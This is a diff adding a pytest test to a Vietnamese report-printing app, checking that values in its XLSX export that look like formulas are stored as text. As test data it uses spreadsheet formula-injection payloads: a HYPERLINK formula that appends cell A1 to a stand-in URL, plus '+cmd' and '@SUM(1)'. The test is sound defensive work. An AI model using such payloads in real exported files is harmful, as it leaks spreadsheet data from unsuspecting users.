@@ -255,3 +255,30 @@ def test_pdf_of_an_empty_period_is_a_valid_zero_form(desk, tmp_path):
 def test_the_pdf_is_returned_without_a_file(heading):
     data = ii06a_pdf.render(long_report(2), heading)
     assert data.startswith(b"%PDF") and len(data) > 1000
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path):
+    """A field or signer typed as "=HYPERLINK(…)" is written as text, never as a formula."""
+    import datetime as dt
+
+    import openpyxl
+
+    from counter_app.printing import ii06a_xlsx
+    from counter_app.reports import parse_period
+    from counter_app.reports.heading import ReportHeading
+    from counter_app.reports.ii06a import Report, Row
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
+    row = Row("1", evil, evil, received_total=1, received_direct=1, open_total=1,
+              open_within=1)
+    total = Row("", "Tổng cộng", "", received_total=1, received_direct=1, open_total=1,
+                open_within=1)
+    report = Report(parse_period("2026-10"), False, [row], total)
+    heading = ReportHeading("UBND xã Quảng Phú", "+cmd", "Quảng Phú", dt.date(2026, 11, 2),
+                            maker_name="@SUM(1)", head_name=evil)
+    out = tmp_path / "f.xlsx"
+    ii06a_xlsx.write(report, heading, out)
+    cells = [c for r in openpyxl.load_workbook(out).active.iter_rows() for c in r
+             if isinstance(c.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == evil for c in cells)
